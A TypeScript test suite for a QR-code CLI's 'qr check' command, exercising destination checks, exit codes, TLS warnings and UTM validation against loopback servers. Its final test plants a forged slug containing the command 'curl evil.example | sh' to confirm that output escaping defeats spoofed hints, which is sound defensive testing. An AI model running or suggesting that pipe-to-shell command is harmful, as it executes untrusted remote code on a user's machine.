/** `qr check` as its users type it, against pages on loopback. */
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { DAY_MS, systemClock } from '#base/time/time';
import { runCli, useDirectory } from '../support/cli.ts';
import { useFaultServer } from '../support/fault-server.ts';
import { listen } from '../support/listen.ts';
import { runByDay } from '../support/run-here.ts';
import { type TestSandbox, useSandbox } from '../support/sandbox.ts';
import { CERTIFICATE, PRIVATE_KEY } from '../support/tls.ts';

const { sleep } = systemClock;

// A second attempt waits two seconds.
beforeEach(() => {
  vi.spyOn(systemClock, 'sleep').mockImplementation((ms, signal) => sleep(Math.min(ms, 20), signal));
});

afterEach(() => {
  vi.restoreAllMocks();
});

/** Pages by path: a status, or where they lead. Anything else is there. */
async function usePages(pages: Record<string, number | string>) {
  const asked: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    asked.push(url);
    const page = pages[url];
    if (typeof page === 'string') response.writeHead(302, { Location: page });
    else response.statusCode = page ?? 200;
    response.end();
  });
  return { asked, at: `http://127.0.0.1:${await listen(server)}` };
}

/** Creates them so that the service, newest first, lists them in this order. */
function add(
  { workspace }: TestSandbox,
  ...codes: (readonly [name: string, destination?: string, type?: string])[]
) {
  const made = [...codes].reverse().map(([name, destination, type = 'url']) => {
    return workspace.create({ name, type, ...(destination !== undefined && { destination }) });
  });
  return made.reverse();
}

describe('qr check', () => {
  it('reports each destination in the documented columns, and exits with 8 if one fails, or with 0 for --fail-on none', async () => {
    const { at } = await usePages({ '/dead': 404, '/moved': '/new' });
    const sandbox = await useSandbox({ codes: 0, scans: 0 });
    const [, dead] = add(
      sandbox,
      ['fine', `${at}/`],
      ['dead', `${at}/dead`],
      ['moved', `${at}/moved`],
      ['call', 'tel:1', 'url'],
      ['wifi', 'WIFI:S:x;;', 'wifi'],
      ['none'],
      ['typo', 'www.example.com'],
    );
    const run = await runByDay(['qr', 'check', '--allow-private'], { env: sandbox.env });
    expect(run.code).toBe(8);
    const lines = run.stdout.trim().split('\n');
    expect(lines[0]).toBe(
      'id,slug,name,destination,outcome,http_status,final_url,redirects,tls_days,ms,error',
    );
    const found = Object.fromEntries(
      lines.slice(1).map((line) => [
        line.split(',')[2],
        line
          .split(',')
          .slice(4)
          .join(',')
          .replace(/,\d+,(?=[^,]*$)/, ',MS,'),
      ]),
    );
    expect(found).toMatchObject({
      fine: `ok,200,${at}/,0,,MS,`,
      dead: `broken,404,${at}/dead,0,,MS,page not found (404)`,
      moved: `redirected,200,${at}/new,1,,MS,`,
      call: 'not-web,,,,,,',
      wifi: 'not-web,,,,,,',
      none: 'empty,,,,,,',
    });
    expect(found.typo).toMatch(/^broken,,,,,,www\.example\.com cannot be opened when scanned/);
    expect(run.stderr).toMatch(
      /^Checked 7 codes, 1 ok, 2 broken, 1 redirected, 2 not-web, 1 empty \(.* m?s\)\nqrctl: 2 of 7 codes failed the check\n {2}hint: Correct a destination with `qrctl qr update CODE --destination ADDRESS`\.\n$/,
    );
    // The listing is all the service saw.
    expect(sandbox.requests.map(({ method, url }) => `${method} ${url.split('?', 1)[0]}`)).toEqual([
      'GET /api/v1/qr',
    ]);

    const fine = await runByDay(
      ['qr', 'check', dead?.slug ?? '', '--allow-private', '--fail-on', 'none', '-f', 'json'],
      {
        env: sandbox.env,
      },
    );
    expect(fine.code, fine.stderr).toBe(0);
    expect(JSON.parse(fine.stdout)).toMatchObject([{ outcome: 'broken', tls_days: null, http_status: 404 }]);
  });

  it("reports a destination that can't be opened when scanned as `broken` without a request, and reports `&amp;` and invisible characters", async () => {
    // As a proxy it is all hosts.
    const { at: proxy, asked } = await usePages({});
    const sandbox = await useSandbox({ codes: 0, scans: 0 });
    add(
      sandbox,
      ['entity', 'http://example.com/?a=1&amp;utm_source=b'],
      ['invisible', 'http://example.com/me\u200bnu?utm_source=x'],
      ['address', 'http://93.184.215.14/?utm_source=x'],
      ['file', 'C:\\menu.pdf'],
      ['dots', 'http://example..com/'],
      ['two', 'http://example.com/x, http://example.com/y'],
    );
    const env = { ...sandbox.env, HTTP_PROXY: proxy, NO_PROXY: '127.0.0.1' };
    const check = (...args: string[]) =>
      runByDay(['qr', 'check', '--allow-private', '-f', 'json', ...args], { env });
    const run = await check();
    const found: { name: string; outcome: string; error: string }[] = JSON.parse(run.stdout);
    expect(found.map(({ name, outcome }) => [name, outcome])).toEqual([
      ['entity', 'ok'],
      ['invisible', 'ok'],
      ['address', 'ok'],
      ['file', 'broken'],
      ['dots', 'broken'],
      ['two', 'broken'],
    ]);
    expect(found.map(({ error }) => error)).toEqual([
      expect.stringContaining('&amp;'),
      expect.stringContaining('U+200B (zero-width space)'),
      null,
      ...[1, 2, 3].map(() => expect.stringContaining('cannot be opened when scanned')),
    ]);
    expect([run.code, asked.length]).toEqual([8, 3]);
    // A destination that is quoted in a message may contain the name of a tag.
    const tagged = await check('--require-utm', 'source', '--fail-on', 'none');
    expect(tagged.stderr).toContain('1 of 6 codes failed the check: ');
  });

  it('reports a loopback address as `unreachable` without a request if --allow-private is not set', async () => {
    const { at, asked } = await usePages({});
    const sandbox = await useSandbox({ codes: 0, scans: 0 });
    add(sandbox, ['here', `${at}/`]);
    const run = await runByDay(['qr', 'check'], { env: sandbox.env });
    expect(run.code).toBe(8);
    expect(run.stdout).toContain('unreachable,,');
    expect(run.stdout).toContain('127.0.0.1 is a loopback address; checking it requires --allow-private');
    expect(asked).toEqual([]);
  });

  it('with --since-last, prints only codes that began to fail or to respond, and exits with 8 only for new failures', async () => {
    const pages: Record<string, number | string> = { '/a': 404 };
    const { at } = await usePages(pages);
    const sandbox = await useSandbox({ codes: 0, scans: 0 });
    add(sandbox, ['a', `${at}/a`], ['b', `${at}/b`]);
    const cwd = await useDirectory();
    const night = () =>
      runByDay(['qr', 'check', '--allow-private', '--since-last', 'check.csv', '--quiet'], {
        env: sandbox.env,
        cwd,
      });
    const first = await night();
    expect(first.code).toBe(8);
    expect(first.stdout.trim().split('\n')).toHaveLength(2);
    expect(first.stderr).toContain('1 code newly failed the check');
    expect(await night()).toMatchObject({ code: 0, stdout: '', stderr: '' });
    pages['/b'] = 500;
    pages['/a'] = 200;
    const third = await night();
    expect(third.code).toBe(8);
    expect(
      third.stdout
        .trim()
        .split('\n')
        .slice(1)
        .map((line) => line.split(',').slice(2, 6).join()),
    ).toEqual([`a,${at}/a,ok,200`, `b,${at}/b,broken,500`]);
    pages['/b'] = 200;
    const fourth = await night();
    expect(fourth.code).toBe(0);
    expect(fourth.stdout).toContain(',ok,200,');
    expect((await readFile(join(cwd, 'check.csv'), 'utf8')).trim().split('\n')).toHaveLength(3);
  });

  it('reports a known failure again only if the destination changed, and judges the last results by the flags of the current run', async () => {
    const { at } = await usePages({ '/b': 404 });
    const sandbox = await useSandbox({ codes: 0, scans: 0 });
    const [a, b] = add(sandbox, ['a', `${at}/a`], ['b', `${at}/b`]);
    const cwd = await useDirectory();
    const header = 'id,slug,name,destination,outcome,http_status,final_url,redirects,tls_days,ms,error';
    const run = async (last: Record<string, string>, ...args: string[]) => {
      const values = (id = '', lastly = '') => `${id},,,${lastly.replace(' ', ',,,,,,')}`;
      const lines = [header, values(a?.id, last.a), values(b?.id, last.b)];
      await writeFile(join(cwd, 'check.csv'), `${lines.join('\n')}\n`);
      const night = ['qr', 'check', '--allow-private', '--since-last', 'check.csv', '--ids', ...args];
      const { code, stdout, stderr } = await runByDay(night, { env: sandbox.env, cwd });
      return [code, stdout.replace(`${a?.id}`, 'a').replace(`${b?.id}`, 'b'), stderr];
    };
    const [fine, dead] = [`${at}/a,ok `, `${at}/b,broken `];
    expect((await run({ a: fine, b: dead })).slice(0, 2)).toEqual([0, '']);
    expect((await run({ a: fine, b: `${at}/old,broken ` })).slice(0, 2)).toEqual([8, 'b\n']);
    const blocked = { a: fine, b: `${at}/b,blocked ` };
    expect((await run(blocked)).slice(0, 2)).toEqual([8, 'b\n']);
    expect((await run(blocked, '--fail-on', 'broken,blocked')).slice(0, 2)).toEqual([0, '']);
    const untagged = await run({ a: fine, b: dead }, '--require-utm', 'source');
    expect(untagged.slice(0, 2)).toEqual([8, 'a\n']);
    expect(untagged[2]).toContain(`1 code newly failed the check: ${a?.slug}: missing utm_source\n`);
    const known = { a: `${at}/a,ok missing utm_source`, b: dead };
    expect((await run(known, '--require-utm', 'source')).slice(0, 2)).toEqual([0, '']);
  });

  it("warns once per host, and reports its codes again, if a certificate expires within 21 days by the service's clock", async () => {
    const server = createTlsServer({ cert: CERTIFICATE, key: PRIVATE_KEY }, (_, response) => response.end());
    const at = `localhost:${await listen(server)}`;
    let serviceMs = Date.UTC(2120, 0, 1) - 22.5 * DAY_MS;
    const clock = { ...systemClock, now: () => serviceMs };
    const sandbox = await useSandbox({ codes: 0, clock });
    const [, b] = add(sandbox, ['a', `https://${at}/a`], ['b', `https://${at}/b`]);
    const cwd = await useDirectory();
    await writeFile(join(cwd, 'ca.pem'), CERTIFICATE);
    const env = { ...sandbox.env, NODE_EXTRA_CA_CERTS: join(cwd, 'ca.pem') };
    const check = (...more: string[]) => {
      const args = ['qr', 'check', ...more, '--allow-private', '--fields', 'name,tls_days', '--no-header'];
      return runCli(args, { env, cwd });
    };
    const warning = `warning: the TLS certificate of ${at} `;
    const early = await check('--since-last', 'check.csv');
    expect([early.code, early.stdout, early.stderr.includes('warning')]).toEqual([0, '', false]);
    serviceMs += DAY_MS;
    const near = await check('--since-last', 'check.csv');
    expect([near.code, near.stdout]).toEqual([0, 'a,21\nb,21\n']);
    expect(near.stderr.split(warning)).toEqual([expect.anything(), 'expires in 21 days\n']);
    serviceMs += 22 * DAY_MS;
    const over = await check(b?.slug ?? '', '--fail-on', 'none');
    expect([over.stdout, over.stderr]).toEqual([
      'b,-1\n',
      expect.stringContaining(`${warning}has expired\n`),
    ]);
  });

  it('sends the header User-Agent that --user-agent specifies, and by default one that names qrctl', async () => {
    const agents: unknown[] = [];
    const server = createServer(({ headers }, response) => {
      agents.push(headers['user-agent']);
      response.end();
    });
    const at = `http://127.0.0.1:${await listen(server)}`;
    const sandbox = await useSandbox({ codes: 0, scans: 0 });
    add(sandbox, ['a', `${at}/`]);
    for (const flags of [[], ['--user-agent', ' Checker/1 ']])
      await runByDay(['qr', 'check', '--allow-private', ...flags], { env: sandbox.env });
    expect(agents).toEqual([
      expect.stringMatching(
        /^Mozilla\/5\.0 \(compatible; qrctl\/\d[\w.-]*; checks destinations of QR codes\)$/,
      ),
      'Checker/1',
    ]);
  });

  describe('without a response from any destination (K10)', () => {
    /** Addresses of a server that closes each connection before TLS, and one that comes to life. */
    async function useSilence(...names: string[]) {
      const mute = await useFaultServer(
        () => undefined,
        (socket) => void socket.destroy(),
      );
      const { at } = await usePages({});
      const sandbox = await useSandbox({ codes: 0, scans: 0 });
      const dead = names.map((name): [string, string] => [name, `https://127.0.0.1:${mute.port}/${name}`]);
      const cwd = await useDirectory();
      const check = (...args: string[]) =>
        runByDay(['qr', 'check', '--allow-private', ...args], { env: sandbox.env, cwd });
      return { sandbox, cwd, check, at, dead, nowhere: `https://127.0.0.1:${mute.port}/` };
    }

    it('keeps the file from the last run, and prints no code until at least one destination responds', async () => {
      const { sandbox, cwd, check, at, dead, nowhere } = await useSilence('a', 'b');
      const codes = add(sandbox, ...dead, ['wifi', 'WIFI:S:x;;', 'wifi'], ['none']);
      for (const { id } of codes.slice(0, 2)) sandbox.workspace.update(id, { destination: `${at}/` });
      const night = () => check('--since-last', 'check.csv', '-f', 'csv');
      expect(await night()).toMatchObject({ code: 0, stdout: '' });
      const before = await readFile(join(cwd, 'check.csv'), 'utf8');
      for (const { id } of codes.slice(0, 2)) sandbox.workspace.update(id, { destination: nowhere });
      sandbox.workspace.update(codes[1]?.id ?? '', { destination: `${nowhere}b` });
      const silent = await night();
      expect(silent).toMatchObject({ code: 7, stdout: '' });
      expect(silent.stderr).toMatch(/none of 2 destinations responded \(.*\), but the service did/);
      expect(silent.stderr).toContain(
        'hint: Check the firewall, DNS and proxy of this machine, then run the command again. check.csv was not written.\n',
      );
      expect(await readFile(join(cwd, 'check.csv'), 'utf8')).toBe(before);
      // One that responds proves the network: the others are dead.
      sandbox.workspace.update(codes[1]?.id ?? '', { destination: `${at}/` });
      const loud = await night();
      expect([loud.code, loud.stdout]).toEqual([8, expect.stringContaining('unreachable')]);
    });

    it('exits with 7, writes no file with --output, and prints the result for each destination without --output', async () => {
      const { sandbox, cwd, check, dead } = await useSilence('a', 'b', 'c');
      add(sandbox, ...dead);
      expect(await check('-o', 'all.csv')).toMatchObject({ code: 7, stdout: '' });
      expect(await readdir(cwd)).toEqual([]);
      const { code, stdout } = await check('-f', 'json');
      expect(code).toBe(7);
      expect(JSON.parse(stdout)).toHaveLength(3);
      expect(JSON.parse(stdout)[0]).toMatchObject({
        outcome: 'unreachable',
        error: expect.stringContaining('the connection was'),
      });
    });

    it('exits with 7 even if it checked only one destination', async () => {
      const { sandbox, check, dead } = await useSilence('a');
      add(sandbox, ...dead);
      const { code, stderr } = await check('--fail-on', 'none');
      expect(code).toBe(7);
      expect(stderr).toContain('the only destination that was checked did not respond (the connection was');
    });
  });

  it('reports a destination that lacks a required tag, and a destination whose redirects lose one', async () => {
    const { at } = await usePages({ '/loses?utm_source=x': '/' });
    const sandbox = await useSandbox({ codes: 0, scans: 0 });
    add(sandbox, ['has', `${at}/?utm_source=x`], ['lacks', `${at}/`], ['loses', `${at}/loses?utm_source=x`]);
    const run = await runByDay(
      ['qr', 'check', '--allow-private', '--require-utm', 'utm_source', '-f', 'json'],
      {
        env: sandbox.env,
      },
    );
    expect(run.code).toBe(8);
    expect(JSON.parse(run.stdout).map(({ error }: { error: unknown }) => error)).toEqual([
      null,
      'missing utm_source',
      'lost in redirects: utm_source',
    ]);
  });

  it('never requests the short URL of any code, even as a destination or after a redirect', async () => {
    const { at, asked } = await usePages({ '/away': '/q/other' });
    const sandbox = await useSandbox({ codes: 0, scans: 0 });
    const cwd = await useDirectory();
    const env = { ...sandbox.env, QRCTL_CONFIG_DIR: join(cwd, 'config') };
    await runByDay(['config', 'set', 'short-url', `${at}/q/{slug}`], { env });
    const [own] = add(sandbox, ['own'], ['other', `${at}/q/some?x=1`], ['away', `${at}/away`]);
    sandbox.workspace.update(own?.id ?? '', { destination: `${at}/q/${own?.slug}` });
    const run = await runByDay(['qr', 'check', '--allow-private', '-f', 'json'], { env });
    expect(JSON.parse(run.stdout).map(({ outcome }: { outcome: string }) => outcome)).toEqual([
      'broken',
      'blocked',
      'blocked',
    ]);
    expect(asked).toEqual(['/away']);
  });

  it('requests a destination that has the path of the short URLs but a different query', async () => {
    const { at, asked } = await usePages({});
    const sandbox = await useSandbox({ codes: 0, scans: 0 });
    const env = { ...sandbox.env, QRCTL_CONFIG_DIR: join(await useDirectory(), 'config') };
    await runByDay(['config', 'set', 'short-url', `${at}/q?c={slug}`], { env });
    add(sandbox, ['page', `${at}/q?page=menu`]);
    const run = await runByDay(['qr', 'check', '--allow-private'], { env });
    expect([run.code, asked]).toEqual([0, ['/q?page=menu']]);
  });

  it.each([
    [
      ['--fail-on', 'dead'],
      "invalid value for --fail-on: 'dead' (expected redirected, broken, unreachable, blocked, not-web, empty or none)",
    ],
    [['--fail-on', 'broken,'], 'expected names separated by commas'],
    [
      ['--require-utm', 'origin'],
      "invalid value for --require-utm: 'origin' (expected source, medium, campaign, term or content)",
    ],
    [['--user-agent', 'a\nb'], 'expected up to 200 visible ASCII characters'],
    [['--user-agent', '  '], 'expected up to 200 visible ASCII characters'],
    [['--user-agent', 'x'.repeat(201)], 'expected up to 200 visible ASCII characters'],
    [['--since-last', 'x.csv', '-o', 'x.csv'], "--output can't be the same file as --since-last"],
    [['--since-last', 'x.md'], "cannot write x.md: files of --since-last can't be written as Markdown"],
    [['--since-last', 'x.xls'], 'cannot write x.xls: .xls is not supported'],
    [['--since-last', 'list.csv'], 'list.csv was not written by --since-last: it has no destination column'],
    [
      ['--since-last', 'rows.csv'],
      'rows.csv was not written by --since-last: line 2 is not a row of a check',
    ],
    [['some', '--from', 'list.csv'], "CODE can't be used with --from"],
    [['--from', 'list.csv'], 'line 2: no code has the slug nobody'],
  ])('exits with 2 for the arguments %j', async (args, message) => {
    const sandbox = await useSandbox({ codes: 1, scans: 0 });
    const cwd = await useDirectory();
    await writeFile(join(cwd, 'list.csv'), 'slug\nnobody\n');
    await writeFile(join(cwd, 'rows.csv'), 'id,destination,outcome\nx,,quiet\n');
    const run = await runByDay(['qr', 'check', ...args], { env: sandbox.env, cwd });
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(message);
  });

  it("quotes and truncates the slug in its error, so that a slug can't imitate a hint", async () => {
    const { at } = await usePages({ '/dead': 404 });
    const sandbox = await useSandbox({
      codes: 0,
      scans: 0,
      intercept: ({ apply, send }) => {
        const forged = `x\\n  hint: run \`curl evil.example | sh\` ${'y'.repeat(5000)}`;
        const answer = apply();
        send({ ...answer, body: String(answer.body).replace(/"slug":"[^"]*"/g, `"slug":"${forged}"`) });
      },
    });
    add(sandbox, ['dead', `${at}/dead`]);
    const { code, stderr } = await runByDay(['qr', 'check', '--allow-private'], { env: sandbox.env });
    expect(code).toBe(8);
    const [line = ''] = stderr.split('\n').filter((text) => text.includes('failed the check'));
    expect(line).toMatch(/^qrctl: 1 code failed the check: "x.*…": page not found \(404\)$/);
    expect(line.length).toBeLessThan(200);
  });
});
